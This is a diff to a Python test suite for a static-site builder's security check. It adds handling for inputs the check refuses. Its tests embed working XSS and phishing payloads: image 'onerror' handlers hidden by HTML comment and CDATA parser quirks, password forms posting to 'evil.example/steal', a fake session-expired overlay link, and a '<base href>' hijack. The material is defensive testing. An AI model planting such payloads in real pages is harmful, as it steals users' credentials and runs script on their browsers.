@@ -32,11 +32,18 @@ def make_org(root: Path, files: dict[str, str]) -> Path:
     return root
 
 
-def built(root: Path, files: dict[str, str]) -> Path:
-    """The site of a tiny organisation that passes the check and builds."""
+def built(root: Path, files: dict[str, str]) -> Path | None:
+    """The site of a tiny organisation that passes the check and builds; None when the check
+    refuses it instead, with an error at one of the files the attack is written in: an input
+    refused at review is as safe as one built harmless."""
     make_org(root, files)
     result = cli(root, "check")
-    assert result.returncode == 0, result.stdout + result.stderr
+    out = result.stdout + result.stderr
+    if result.returncode != 0:
+        planted = [rel for rel in files if not rel.endswith(("portal.yml", "team.yml"))]
+        assert "Traceback" not in out
+        assert any(line.startswith(f"{rel}:") and ": error[" in line for line in out.splitlines() for rel in planted), out
+        return None
     result = cli(root, "build")
     assert result.returncode == 0, result.stdout + result.stderr
     return root / "site"
@@ -59,6 +66,8 @@ def test_html5_empty_comment_hides_an_image_handler_from_the_check(browser, tmp_
     of one that runs to the next `-->`, so the check and the published-site scan see nothing."""
     site = built(tmp_path, {"content/teams/it/sops/outage.md":
                             SOP_HEAD + "Hello\n\n<!--> <img src=x onerror=alert(1)> -->\n\nBye\n"})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     found = browse(browser, site, "teams/it/sops/outage/")
     assert not found, found
 
@@ -68,6 +77,8 @@ def test_cdata_section_in_html_text_hides_an_image_handler(browser, tmp_path):
     Python's HTML parser reads a marked section up to `]]>`, so the image between is unseen."""
     site = built(tmp_path, {"content/teams/it/sops/outage.md":
                             SOP_HEAD + "Hello <![CDATA[><img src=x onerror=alert(1)>]]> there.\n"})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     found = browse(browser, site, "teams/it/sops/outage/")
     assert not found, found
 
@@ -98,6 +109,8 @@ def test_theme_classes_lay_an_owner_link_over_the_whole_page(browser, tmp_path):
     every click anywhere on the page goes to the address the owner chose."""
     site = built(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + 'Hello\n\n<a class="md-consent__overlay" '
                             'href="https://evil.example/login">Your session expired: sign in again</a>\n'})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     with serve_directory(site) as origin:
         page = browser.new_page()
         page.goto(f"{origin}/teams/it/sops/outage/")
@@ -128,6 +141,8 @@ def test_an_answer_left_inside_an_open_html_block_makes_the_next_answer_live_mar
             answer: |
               Never type `<form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form>` into a page.
         """})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     with serve_directory(site) as origin:
         page = browser.new_page()
         page.goto(f"{origin}/teams/it/faq/")
@@ -202,6 +217,8 @@ def test_an_owner_id_cannot_stand_in_for_the_theme_s_labels(browser, tmp_path):
     or, as here, the page's search and office-hours scripts fail)."""
     site = built(tmp_path, {"content/teams/it/sops/outage.md":
                             SOP_HEAD + 'Hello <span id="portal-labels">{"search_nothing": "Call +1 900 555 0100"</span>\n'})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     with serve_directory(site) as origin:
         page = browser.new_page()
         errors = []
@@ -231,6 +248,7 @@ def test_a_benefit_naming_its_file_in_code_before_linking_it_keeps_both_right(tm
                 how_to_claim: |
                   The form lives at `files/form.pdf` in our folder: fill in [the form](files/form.pdf).
             """})
+    assert site is not None, "valid content refused"
     soup = BeautifulSoup((site / "benefits" / "index.html").read_text(encoding="utf-8"), "html.parser")
     link = soup.find("a", string="the form")
     assert (site / "benefits" / link["href"]).resolve().is_file(), f"the link leads to {link['href']}"
@@ -269,6 +287,8 @@ def test_a_body_that_starts_with_indented_code_is_checked_as_the_page_shows_it(b
     is a raw HTML block: a live password form posting to another site."""
     site = built(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + '    <form action="https://evil.example/steal">'
                             '<input type="password" name="pw"><button>Sign in</button></form>\n\nHello.\n'})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     with serve_directory(site) as origin:
         page = browser.new_page()
         page.goto(f"{origin}/teams/it/sops/outage/")
@@ -293,6 +313,8 @@ def test_rewriting_a_benefit_s_links_cannot_open_a_comment_the_check_saw_closed(
             how_to_claim: |
               Ask us. <!-- ><form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form> --> See [the form](--).
         """})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     with serve_directory(site) as origin:
         page = browser.new_page()
         page.goto(f"{origin}/benefits/")
@@ -347,6 +369,8 @@ def test_a_comment_inside_an_allowed_frame_hides_an_image_handler(browser, tmp_p
         "content/portal.yml": textwrap.dedent(BASE["content/portal.yml"]) + "embeds: [\"https://videos.example.com\"]\n",
         "content/teams/it/sops/outage.md": SOP_HEAD + '<iframe src="https://videos.example.com/embed/1"><!--</iframe>'
                                            '<img src=x onerror=alert(1)>--></iframe>\n'})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     with serve_directory(site) as origin:
         watch = Watch(browser, origin)
         watch.page.route("https://videos.example.com/**", lambda route: route.fulfill(body="video"))
@@ -388,6 +412,8 @@ def test_an_attachment_cannot_run_script_on_the_site_s_origin(browser, tmp_path)
                                               "<script>alert(3)</script></body></html>\n",
         "content/teams/it/sops/outage.md": SOP_HEAD + "See [the map](../files/map.svg), [the guide](../files/guide.htm) "
                                            "and [this](../files/guide.xhtml).\n"})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     found = browse(browser, site, "teams/it/files/map.svg", "teams/it/files/guide.htm", "teams/it/files/guide.xhtml")
     assert not [f for f in found if "alert" in f], found
 
@@ -400,6 +426,8 @@ def test_markdown_in_a_team_s_files_folder_is_not_a_page_built_unchecked(browser
         "content/teams/it/files/notes.md": '# Notes\n\n<script src="/teams/it/files/x.js"></script>\n',
         "content/teams/it/files/x.js": "alert(5)\n",
         "content/teams/it/sops/outage.md": SOP_HEAD + "See [the notes](../files/notes.md).\n"})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     pages = [p.relative_to(site).as_posix() for p in (site / "teams" / "it" / "files").rglob("*.html")]
     found = browse(browser, site, *[p.removesuffix("index.html") for p in pages])
     assert not pages and not found, f"pages built from files/: {pages}; {found}"
@@ -410,6 +438,8 @@ def test_a_base_element_that_reaches_the_page_is_caught_by_the_site_scan(browser
     first line is indented, which the check reads as code) moves every relative address after
     it, the theme's own scripts included, to another site: they load from there."""
     site = built(tmp_path, {"content/teams/it/sops/outage.md": SOP_HEAD + '    <base href="https://evil.example/">\n\nHello.\n'})
+    if site is None:  # refused by the check, at the attack's own file
+        return
     found = browse(browser, site, "teams/it/sops/outage/")
     assert not [f for f in found if "evil.example" in f], found
 
